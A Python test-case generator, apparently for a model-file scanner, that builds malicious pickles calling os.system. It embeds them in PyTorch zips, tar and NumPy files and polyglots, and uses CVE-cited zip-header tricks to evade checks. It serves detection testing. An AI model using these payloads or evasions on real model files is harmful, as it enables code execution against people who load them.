"""Pickles inside archives and arrays: zip, tar, npy, npz, and files that are two kinds at once."""

import io
import struct
import tarfile
import zipfile
import zlib

from asm import SH, POP, Ops, call, framed, named, old_global, push, stream, text_call, STOP
from cases import elsewhere, hygiene, runs

TECHNIQUE = "containers"
PAYLOAD = bytes(framed(call("os system", SH)))
BENIGN = bytes(framed(push({"weight": [0.5, 1.5]})))
TORCH = "archive/data.pkl"
DATE = (1980, 1, 1, 0, 0, 0)


def zipped(members: dict[str, bytes], method=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, DATE)
            info.compress_type = method
            info.create_system = 3  # the host's own would differ between machines
            archive.writestr(info, data)
    return buffer.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npy(data: bytes, dtype: str = "'|O'", shape: str = "(1,)") -> bytes:
    header = f"{{'descr': {dtype}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header + data


def zip_torch():
    torch = {"archive/version": b"3\n", "archive/data/0": bytes(16)}
    zips = {"loader": "zip:" + TORCH}
    yield runs("torch.pt", zipped({TORCH: PAYLOAD, **torch}), "os.system", "the layout of torch.save", **zips)
    yield runs("torch_deflated.pt", zipped({TORCH: PAYLOAD, **torch}, zipfile.ZIP_DEFLATED), "os.system", **zips)
    yield runs("torch_bz2.pt", zipped({TORCH: PAYLOAD, **torch}, zipfile.ZIP_BZIP2), "os.system", **zips)
    yield runs("torch_lzma.pt", zipped({TORCH: PAYLOAD, **torch}, zipfile.ZIP_LZMA), "os.system", **zips)
    yield runs("torch_named.bin", zipped({TORCH: PAYLOAD, **torch}), "os.system", **zips)
    yield runs(
        "torch_persistent.pt",
        zipped({TORCH: bytes(stream(push(("storage", "x")), Ops(b"Q0"), call("os system", SH))), **torch}),
        "os.system",
        "behind a persistent id, as storages are written",
        **zips,
    )
    yield runs(
        "torch_many_members.pt",
        zipped({**{f"archive/data/{n}": b"0" for n in range(300)}, TORCH: PAYLOAD}),
        "os.system",
        **zips,
    )
    yield runs(
        "torch_second_pickle.pt",
        zipped({TORCH: BENIGN, "archive/extra/hidden.bin": PAYLOAD}),
        "os.system",
        "a pickle without an extension that says so",
        loader="zip:archive/extra/hidden.bin",
    )
    yield runs("torch_prefix.pt", b"#!/bin/sh\n" + zipped({TORCH: PAYLOAD}), "os.system", **zips)
    # pickle.load stops at STOP; zipfile looks at the checksum when it reaches the end of the member (CVE-2025-10156).
    long_member = PAYLOAD + bytes(300_000)
    yield runs(
        "torch_bad_crc.pt",
        _break_crc(zipped({TORCH: long_member})),
        "os.system",
        "the checksum is looked at after the payload ran",
        **zips,
    )
    yield elsewhere(
        "torch_bad_crc_short.pt",
        _break_crc(zipped({TORCH: PAYLOAD})),
        "os.system",
        "torch's reader (miniz) does not check: caffe2/serialize/inline_container.cc; CVE-2025-10156",
    )
    yield elsewhere(
        "torch_flag_bits.pt",
        _flag_bits(zipped({TORCH: PAYLOAD})),
        "os.system",
        "torch does not look at the encryption bit of the entry; CVE-2025-1945",
    )
    yield elsewhere(
        "torch_local_name.pt",
        _local_name(zipped({TORCH: PAYLOAD})),
        "os.system",
        "zipfile refuses what torch reads; CVE-2025-1944",
    )
    yield elsewhere(
        "torch_weights_and_tensor.pt",
        zipped({TORCH: bytes(stream(named("torch._utils _rebuild_tensor_v2"), POP, call("os system", SH))), **torch}),
        "os.system",
        "torch/serialization.py, _load with weights_only=False",
    )
    yield elsewhere(
        "torch_jit_code.pt",
        zipped(
            {
                "archive/data.pkl": BENIGN,
                "archive/constants.pkl": PAYLOAD,
                "archive/code/__torch__.py": b"def forward(self): pass\n",
            }
        ),
        "os.system",
        "torch.jit archives hold a second pickle: torch/jit/_serialization.py",
    )
    yield hygiene("hygiene_torch.pt", zipped({TORCH: BENIGN, **torch}), "loads", **zips)
    yield hygiene(
        "hygiene_zip_of_pickle.zip",
        zipped({"model.pkl": BENIGN}),
        "loads",
        loader="zip:model.pkl",
        expect="pickle-in-archive",
    )


def _break_crc(data: bytes) -> bytes:
    """Another checksum in the local header and the central directory."""
    out = bytearray(data)
    out[14] ^= 0xFF
    out[data.index(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(out)


def _flag_bits(data: bytes) -> bytes:
    out = bytearray(data)
    out[6] |= 1
    out[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(out)


def _local_name(data: bytes) -> bytes:
    return data.replace(b"archive/data.pkl", b"archive/dbta.pkl", 1)


def zip_others():
    yield runs("pandas.zip", zipped({"model.pkl": PAYLOAD}), "os.system", loader="pandas", needs=["pandas"])
    yield runs("pandas_any_name.zip", zipped({"readme.txt": PAYLOAD}), "os.system", loader="pandas", needs=["pandas"])
    yield runs("pandas.tar", tarred({"model.pkl": PAYLOAD}), "os.system", loader="pandas", needs=["pandas"])
    yield runs("tar_of_pickles.tar", tarred({"a.pkl": BENIGN, "b.pkl": PAYLOAD}), "os.system", loader="tar:b.pkl")
    yield runs(
        "tar_old_torch.tar",
        tarred({"sys_info": BENIGN, "pickle": PAYLOAD, "storages": BENIGN}),
        "os.system",
        "torch before 0.1.10 wrote tars",
        loader="tar:pickle",
    )
    yield runs(
        "zip_in_zip.zip",
        zipped({"inner.zip": zipped({"model.pkl": PAYLOAD})}),
        "os.system",
        "taken out once by its user",
        loader="zip-zip:inner.zip:model.pkl",
    )
    yield runs(
        "skops_with_pickle.skops",
        zipped({"schema.json": b"{}", "model.pkl": PAYLOAD}),
        "os.system",
        "an archive that looks like skops",
        loader="zip:model.pkl",
    )


def numpy_files():
    array = {"loader": "numpy", "needs": ["numpy"]}
    yield runs("object.npy", npy(PAYLOAD), "os.system", "an array of objects is a pickle", **array)
    yield runs("object_text.npy", npy(bytes(text_call("os system", SH) + STOP)), "os.system", **array)
    yield runs(
        "object_field.npy", npy(PAYLOAD, "[('a', '<f8'), ('b', '|O')]"), "os.system", "one field is enough", **array
    )
    yield runs("object_empty.npy", npy(PAYLOAD, shape="(0,)"), "os.system", "no elements, still a pickle", **array)
    yield runs("object.npz", zipped({"a.npy": npy(bytes(8), "'<f8'"), "b.npy": npy(PAYLOAD)}), "os.system", **array)
    yield runs("object_deflated.npz", zipped({"b.npy": npy(PAYLOAD)}, zipfile.ZIP_DEFLATED), "os.system", **array)
    yield runs("no_magic.npy", PAYLOAD, "os.system", "numpy.load falls back to pickle", **array)
    yield runs(
        "stacked.npy",
        npy(BENIGN) + npy(PAYLOAD),
        "os.system",
        "numpy.load twice on one file",
        loader="numpy-all",
        needs=["numpy"],
    )
    yield hygiene("hygiene_object.npy", npy(BENIGN), "loads", "not an array inside", **array)


def polyglots():
    zips = {"loader": "zip:" + TORCH}
    benign_zip = zipped({TORCH: BENIGN})
    yield runs(
        "pickle_before_zip.pt",
        PAYLOAD + benign_zip,
        "os.system",
        "payload for pickle.load, benign as an archive",
        expect="pickle-beside-archive",
    )
    yield runs(
        "pickle_before_zip_other_way.pt",
        BENIGN + zipped({TORCH: PAYLOAD}),
        "os.system",
        "benign for pickle.load, payload as an archive",
        **zips,
    )
    yield runs(
        "pickle_before_empty_zip.pkl", PAYLOAD + b"PK\x05\x06" + bytes(18), "os.system", expect="pickle-beside-archive"
    )
    yield runs("pickle_before_zip_commented.pkl", PAYLOAD + b"PK\x05\x06" + bytes(16) + b"\x05\0hello", "os.system")
    yield runs("pickle_before_broken_zip_end.pkl", PAYLOAD + b"PK\x05\x06" + bytes(10), "os.system")
    yield runs("pickle_before_npy.pkl", PAYLOAD + npy(bytes(8), "'<f8'"), "os.system")
    yield runs("pickle_before_tar.pkl", PAYLOAD + tarred({"a": b"a"}), "os.system")
    # The first bytes of a tar are a member's name: 100 characters, enough for a pickle of protocol 0.
    name = "cos\nsystem\n(V" + SH + "\ntR."
    yield runs(
        "tar_is_pickle.tar",
        tarred({name: b"text", "weights.txt": b"0.5"}),
        "os.system",
        "the member's name is a pickle",
    )
    yield runs(
        "zip_in_bytes_of_pickle.pkl",
        bytes(stream(push(zipped({"a.txt": b"a"})), POP, call("os system", SH))),
        "os.system",
        "the archive is an argument of an opcode",
    )
    yield runs(
        "payload_in_zip_comment.zip",
        _comment(zipped({"a.txt": b"a"}), PAYLOAD),
        "os.system",
        "whoever seeks to the comment",
        loader="offset:" + str(len(zipped({"a.txt": b"a"}))),
    )
    png = b"\x89PNG\r\n\x1a\n"
    yield runs("png_payload_behind.png", png + PAYLOAD, "os.system", "a loader that skips a header", loader="offset:8")
    yield runs("json_payload_behind.json", b'{"a": 1}\n' + PAYLOAD, "os.system", loader="offset:9")
    yield runs("xml_comment.pkl", bytes(old_global("os system")) + b"(V" + SH.encode() + b"\ntR.<!-- -->", "os.system")
    yield runs(
        "skops_before.skops",
        PAYLOAD + zipped({"schema.json": b"{}"}),
        "os.system",
        "a skops file after a pickle",
        expect="pickle-beside-archive",
    )
    yield runs(
        "checksum_chosen.pkl",
        PAYLOAD + struct.pack("<I", zlib.crc32(PAYLOAD)),
        "os.system",
        "trailing bytes that look meant",
    )


def _comment(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def cases():
    for part in (zip_torch, zip_others, numpy_files, polyglots):
        yield from part()
